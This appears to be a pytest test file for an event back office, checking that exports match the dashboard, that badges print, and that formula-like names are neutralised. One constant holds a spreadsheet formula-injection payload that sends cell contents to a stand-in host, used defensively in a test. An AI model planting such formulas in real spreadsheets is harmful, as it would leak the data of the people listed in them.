"""Exports (CSV, XLSX) and the dashboard: the same figures, and no formula slips through."""

from __future__ import annotations

import csv
import html as htmllib
import io
import re
from collections import Counter
from datetime import UTC, datetime

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from school.models import AuditEntry, CheckIn, RegistrationMeal, Session
from tests.support.backoffice import Organiser, fresh, make_admin
from tests.support.factories import make_choice, make_registration
from tests.support.pdf_tools import pdf_text

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture
def organiser(app, client, db, demo):
    make_admin(app, db)
    return Organiser(client).login()


@pytest.fixture
def crowd(db, demo):
    """Participants of several countries, categories and Cités, with meals, diets,
    seats, a waiting line, check-ins, a cancellation and some formula-like names."""
    sessions = {s.key: s for s in fresh(db).scalars(sa.select(Session))}
    explora, lunch = sessions["d1-visit-explora"], sessions["d1-lunch"]
    explora.capacity = 3
    people = []
    for n, (country, category, cite, diet) in enumerate(
        [
            ("FR", "member", "Cité des métiers de Paris", "Végétarien"),
            ("FR", "member", "Cité des métiers de Paris", "végétarien "),
            ("BE", "member", "Cité des métiers de Bruxelles", None),
            ("BE", "partner", None, "Sans gluten"),
            ("CH", "guest", None, None),
            ("PT", "speaker", "Cité des métiers de Lisboa", "Halal"),
        ]
    ):
        person = make_registration(
            db, demo, email=f"p{n}@example.org", country=country, category=category,
            cite=cite, dietary=diet, first_name=["Ève", "+33 6 12", "@mention", "-minus",
                                                 "Ada", "Raquel"][n],
        )  # fmt: skip
        db.add(RegistrationMeal(registration_id=person.id, session_id=lunch.id))
        people.append(person)
    people[0].last_name = FORMULA
    for person in people[:3]:
        make_choice(db, person, explora)
    for person in people[3:5]:
        make_choice(db, person, explora, status="waitlisted")
    gone = make_registration(db, demo, email="gone@example.org", country="FR", status="cancelled")
    db.add(RegistrationMeal(registration_id=gone.id, session_id=lunch.id))
    now = datetime.now(UTC)

    def scan(person, client_id, session=None, **fields):
        checkpoint = f"session:{session.id}" if session else f"entrance:{demo.dates[0]}"
        db.add(CheckIn(edition_id=demo.id, registration_id=person.id, day=demo.dates[0],
                       session_id=session.id if session else None, scanned_at=now,
                       checkpoint=checkpoint, client_id=client_id, verdict="ok",
                       **fields))  # fmt: skip

    for n, person in enumerate(people[:4]):
        scan(person, f"door-{n}")
    scan(people[0], "room-1", explora)
    scan(people[4], "door-x", undone_at=now)  # undone: does not count
    db.commit()
    return people


def download(organiser, demo, what: str, fmt: str, **params):
    response = organiser.get(f"/organiser/{demo.slug}/exports/{what}.{fmt}", **params)
    assert response.status_code == 200
    assert "attachment" in response.headers["Content-Disposition"]
    return response.data


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte-order mark, for Excel"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def csv_table(data: bytes) -> list[list[str]]:
    """The CSV's one table (header first), every row as wide as the header."""
    rows = csv_rows(data)
    assert rows and all(len(row) == len(rows[0]) for row in rows)
    return rows


def sheet_rows(data: bytes, title: str) -> list[tuple]:
    return list(load_workbook(io.BytesIO(data))[title].iter_rows(values_only=True))


def dashboard_numbers(html: str, section: str) -> dict[str, list[str]]:
    """A dashboard section's table of numbers: {first cell: other cells}."""
    part = html.split(f'id="{section}-title"')[1].split("</section>")[0]
    table = part.split("<tbody>")[1].split("</tbody>")[0]
    rows = {}
    for row in re.findall(r"<tr>(.*?)</tr>", table, re.S):
        cells = [htmllib.unescape(c).strip() for c in re.findall(r"<td[^>]*>(.*?)</td>", row, re.S)]
        rows[cells[0]] = cells[1:]
    return rows


def test_exports_figures_equal_the_dashboards(organiser, demo, crowd):
    html = organiser.page(f"/organiser/{demo.slug}/")
    assert re.search(r"<strong>6</strong> confirmed registrations", html)
    assert re.search(r"<strong>4</strong> checked in", html)

    header, *rows = csv_table(download(organiser, demo, "registrations", "csv"))
    assert len(rows) == 6  # the cancelled registration is not there
    by_country = Counter(row[header.index("Country")] for row in rows)
    assert {k: [str(v)] for k, v in by_country.items()} == dashboard_numbers(html, "country")
    by_category = Counter(row[header.index("Category")] for row in rows)
    assert {k: [str(v)] for k, v in by_category.items()} == dashboard_numbers(html, "category")
    # By Cité, who registered and, apart, who of them is checked in.
    cite, came = header.index("Cité des métiers"), header.index("Checked in")
    by_cite = Counter(row[cite] or "(none)" for row in rows)
    present = Counter(row[cite] or "(none)" for row in rows if row[came] == "yes")
    shown = dashboard_numbers(html, "cite")
    assert {k: [str(v), str(present[k])] for k, v in by_cite.items()} == shown
    workbook = download(organiser, demo, "registrations", "xlsx")
    totals = dict(sheet_rows(workbook, "Totals")[1:])
    assert totals["Confirmed registrations"] == 6 and totals["Checked in"] == 4
    assert sum(row[header.index("Checked in")] == "yes" for row in rows) == 4

    fill = dashboard_numbers(html, "fill")["Tour of the permanent exhibitions (Explora)"]
    assert fill == ["3", "3", "100 %", "2"]
    lists = load_workbook(io.BytesIO(download(organiser, demo, "sessions", "xlsx")))
    summary = {row[0]: row for row in lists["Sessions"].iter_rows(min_row=2, values_only=True)}
    explora = summary["Tour of the permanent exhibitions (Explora)"]
    assert explora[3:] == ("Scheduled", 3, 3, 2)
    sheet = next(ws for ws in lists.worksheets if ws.title.startswith("Tour of the permanent"))
    statuses = [row[5] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert statuses == ["Confirmed"] * 3 + ["Waiting list"] * 2
    assert [row[6] for row in sheet.iter_rows(min_row=2, values_only=True)][3:] == [1, 2]

    catering = csv_table(download(organiser, demo, "catering", "csv"))
    lunch = [row for row in catering[1:] if row[:2] == ["Buffet lunch", "2019-06-19"]]
    counts = {row[3]: row[4] for row in lunch}
    assert counts == {"All": "6", "No particular needs": "2", "Végétarien": "2",
                      "Sans gluten": "1", "Halal": "1"}  # fmt: skip
    meals = html.split('id="meals-title"')[1]
    assert re.search(r"Buffet lunch \(Wed 19 Jun\)</td><td class=\"num\">6</td>", meals)
    assert "Végétarien: 2" in meals

    checkins = csv_table(download(organiser, demo, "checkins", "csv"))
    assert len(checkins) - 1 == 5  # standing check-ins, the undone one left out
    progress_sheet = sheet_rows(download(organiser, demo, "checkins", "xlsx"), "Check-in progress")
    progress = {row[0]: [str(n) for n in row[1:]] for row in progress_sheet[1:]}
    entrance = progress["Entrance, 2019-06-19"]
    shown = dashboard_numbers(html, "checkin")
    assert shown["19 Jun 2019"] == entrance == ["6", "4"]
    assert progress["Tour of the permanent exhibitions (Explora)"] == ["3", "1"]


def dashboard_headers(html: str, section: str) -> list[str]:
    part = html.split(f'id="{section}-title"')[1].split("</section>")[0]
    head = part.split("<thead>")[1].split("</thead>")[0]
    return [htmllib.unescape(h).strip() for h in re.findall(r"<th[^>]*>(.*?)</th>", head)]


BREAKDOWNS = {
    "By country": "country",
    "By category": "category",
    "By Cité": "cite",
    "By country of the Cité": "cite-country",
}


def test_the_exports_breakdowns_read_as_the_dashboards_tables(organiser, demo, crowd, db):
    """They count confirmed registrations, not who came: headed "Registrations" as on the
    dashboard, with the same figures, and by Cité "Checked in" beside them once someone is."""
    for doors_open in (True, False):
        if not doors_open:
            fresh(db).execute(sa.delete(CheckIn))
            db.commit()
        html = organiser.page(f"/organiser/{demo.slug}/")
        workbook = download(organiser, demo, "registrations", "xlsx")
        for title, section in BREAKDOWNS.items():
            header, *rows = sheet_rows(workbook, title)
            assert list(header) == dashboard_headers(html, section), title
            assert header[1] == "Registrations" and "Participants" not in header
            figures = {row[0]: [str(n) for n in row[1:]] for row in rows}
            assert figures == dashboard_numbers(html, section), title
        by_cite = sheet_rows(workbook, "By Cité")
        if doors_open:
            assert by_cite[0] == ("Cité des métiers", "Registrations", "Checked in")
            assert ("Cité des métiers de Lisboa", 1, 0) in by_cite  # registered, not come
        else:
            assert by_cite[0] == ("Cité des métiers", "Registrations")


def test_a_formula_like_name_arrives_as_inert_text(organiser, demo, crowd, db):
    rows = csv_table(download(organiser, demo, "registrations", "csv"))
    header = rows[0]
    last_names = [row[header.index("Last name")] for row in rows[1:]]
    first_names = [row[header.index("First name")] for row in rows[1:]]
    assert "'" + FORMULA in last_names
    assert {"'+33 6 12", "'@mention", "'-minus"} <= set(first_names)
    assert not any(name.startswith(("=", "+", "-", "@")) for name in last_names + first_names)

    book = load_workbook(io.BytesIO(download(organiser, demo, "registrations", "xlsx")))
    sheet = book["Registrations"]
    cells = [row[1] for row in sheet.iter_rows(min_row=2)] + [
        row[2] for row in sheet.iter_rows(min_row=2)
    ]
    risky = [cell for cell in cells if str(cell.value).startswith(("=", "+", "-", "@"))]
    assert {cell.value for cell in risky} == {FORMULA, "+33 6 12", "@mention", "-minus"}
    for cell in risky:
        assert cell.data_type == "s" and cell.quotePrefix, cell.value
    assert sheet.cell(row=1, column=2).value == "Last name"
    # Who took personal data out is in the audit log.
    entries = (
        fresh(db)
        .scalars(
            sa.select(AuditEntry)
            .where(AuditEntry.action == "export.downloaded")
            .order_by(AuditEntry.id)
        )
        .all()
    )
    assert [(e.target, e.details["format"]) for e in entries] == [
        ("registrations", "csv"),
        ("registrations", "xlsx"),
    ]


def test_exports_follow_the_tables_filters_and_the_language(organiser, demo, crowd):
    rows = csv_rows(download(organiser, demo, "registrations", "csv", country="BE"))
    header = rows[0]
    names = [row[header.index("Country")] for row in rows[1:]]
    assert names == ["Belgium", "Belgium"]
    organiser.lang = "fr"
    rows = csv_rows(download(organiser, demo, "registrations", "csv", country="BE"))
    assert rows[0][:3] == ["Id", "Nom", "Prénom"] and rows[1][6] == "Belgique"
    html = organiser.page(f"/organiser/{demo.slug}/registrations", country="BE")
    assert "country=BE" in html and "exports/registrations.xlsx" in html


def test_the_dashboard_draws_accessible_charts(organiser, demo, crowd):
    html = organiser.page(f"/organiser/{demo.slug}/")
    charts = re.findall(r"<figure class=\"dash-chart.*?</figure>", html, re.S)
    assert len(charts) == 6
    for chart in charts:
        assert "<figcaption" in chart  # named for screen readers
        assert "style=" not in chart and "<script" not in chart
    # Each bar reads as its label then its figure; the shapes are hidden from readers.
    assert '<span class="dash-label">France</span>' in html
    assert re.search(r'<span class="dash-label">France</span><svg[^>]*aria-hidden="true"', html)
    assert '<span class="dash-figure">2</span>' in html
    assert '<details class="numbers">' in html
    empty = organiser.page(f"/organiser/{demo.slug}/", lang="fr")
    assert "Inscriptions au fil du temps" in empty


def test_print_badges_by_category_and_one_at_the_door(organiser, demo, crowd, db):
    html = organiser.page(f"/organiser/{demo.slug}/exports")
    assert 'id="badges"' in html and "Print the badges (PDF)" in html
    response = organiser.get(f"/organiser/{demo.slug}/badges.pdf", category="member")
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    text = pdf_text(response.data)
    assert "Ève" in text and "Raquel" not in text  # Raquel is a speaker
    response = organiser.get(f"/organiser/{demo.slug}/badges.pdf", category="press")
    assert response.status_code == 422 and "nothing to print" in response.get_data(True)
    one = organiser.get(f"/organiser/{demo.slug}/badges.pdf", registration=crowd[5].id)
    assert one.status_code == 200 and "Raquel" in pdf_text(one.data)
    page = organiser.page(f"/organiser/{demo.slug}/registrations/{crowd[5].id}")
    assert f"badges.pdf?registration={crowd[5].id}" in page
    entries = (
        fresh(db)
        .scalars(
            sa.select(AuditEntry.details)
            .where(AuditEntry.action == "badges.printed")
            .order_by(AuditEntry.id)
        )
        .all()
    )
    assert [e["count"] for e in entries] == [3, 1]


def test_badge_filters_are_named_and_a_bad_one_is_refused_in_the_readers_language(
    organiser, demo, crowd, db
):
    french = Organiser(organiser.client, "fr")
    html = french.page(f"/organiser/{demo.slug}/exports")
    select = html.split('name="size"')[1].split("</select>")[0]
    assert re.findall(r'<option value="([^"]+)"[^>]*>([^<]+)</option>', select) == [
        ("a6", "A6 (105 × 148 mm)"),
        ("90x130", "90 × 130 mm"),
        ("a7", "A7 (74 × 105 mm)"),
    ]
    url = f"/organiser/{demo.slug}/badges.pdf"
    refused = [
        ({"size": "zz"}, "Il n’y a pas de taille de badge « zz ». Choisissez parmi : a6 = A6"),
        ({"category": "vip"}, "Il n’y a pas de catégorie « vip »."),
        ({"day": "2019-07-01"}, "« 2019-07-01 » n’est pas un jour de l’événement (19–21 juin"),
        ({"day": "demain", "size": "a7"}, "« demain » n’est pas un jour de l’événement"),
    ]
    for params, message in refused:
        response = french.get(url, **params)
        assert response.status_code == 422, params
        page = htmllib.unescape(response.get_data(as_text=True))
        assert f'role="alert">{message}' in page, params  # in the form, not off screen
    assert '<option value="a7" selected>' in page  # the filters kept as chosen
    one = french.get(url, registration=crowd[5].id, size="zz")
    assert one.status_code == 302
    assert "pas de taille de badge « zz »" in htmllib.unescape(french.page(one.headers["Location"]))
    entries = fresh(db).scalars(sa.select(AuditEntry).where(AuditEntry.action == "badges.printed"))
    assert entries.all() == []  # nothing printed


@pytest.mark.parametrize("what", ["registrations", "sessions", "catering", "checkins"])
def test_pandas_reads_each_csv_export_as_one_table(organiser, demo, crowd, db, what):
    """Each CSV is one table: pandas reads it with no error and finds the rows the
    XLSX's table holds, no summary appended; the summaries are sheets of the XLSX."""
    import pandas

    response = organiser.get(f"/organiser/{demo.slug}/exports/{what}.csv")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    frame = pandas.read_csv(io.BytesIO(response.data), sep=";", encoding="utf-8-sig", dtype=str)
    book = load_workbook(io.BytesIO(download(organiser, demo, what, "xlsx")))
    title = {
        "registrations": "Registrations",
        "sessions": "Participants by session",
        "catering": "Catering",
        "checkins": "Check-ins",
    }[what]
    sheet = list(book[title].iter_rows(values_only=True))
    assert list(frame.columns) == list(sheet[0])
    assert len(frame) == len(sheet) - 1
    if what == "registrations":
        assert len(frame) == 6  # six people, nothing else
        assert set(frame["Meals"]) == {"Buffet lunch (19 Jun)"}  # which day's lunch
        assert {"Totals", "By country", "By category", "By Cité"} <= set(book.sheetnames)
    if what == "checkins":
        assert "Check-in progress" in book.sheetnames


def test_a_cancelled_session_says_so_in_the_sessions_export(organiser, demo, crowd, db):
    import pandas

    explora = fresh(db).scalar(sa.select(Session).where(Session.key == "d1-visit-explora"))
    explora.status = "cancelled"
    db.commit()
    data = download(organiser, demo, "sessions", "csv")
    frame = pandas.read_csv(io.BytesIO(data), sep=";", encoding="utf-8-sig", dtype=str)
    rows = frame[frame["Session"] == "Tour of the permanent exhibitions (Explora)"]
    assert len(rows) == 5 and set(rows["Session status"]) == {"Cancelled"}
    # Countries by name, as in the registrations export (not "FR" here, "France" there).
    assert set(rows["Country"]) == {"France", "Belgium", "Switzerland"}
    summary = sheet_rows(download(organiser, demo, "sessions", "xlsx"), "Sessions")
    header = summary[0]
    state = {row[0]: row[header.index("Session status")] for row in summary[1:]}
    assert state.pop("Tour of the permanent exhibitions (Explora)") == "Cancelled"
    assert set(state.values()) == {"Scheduled"}
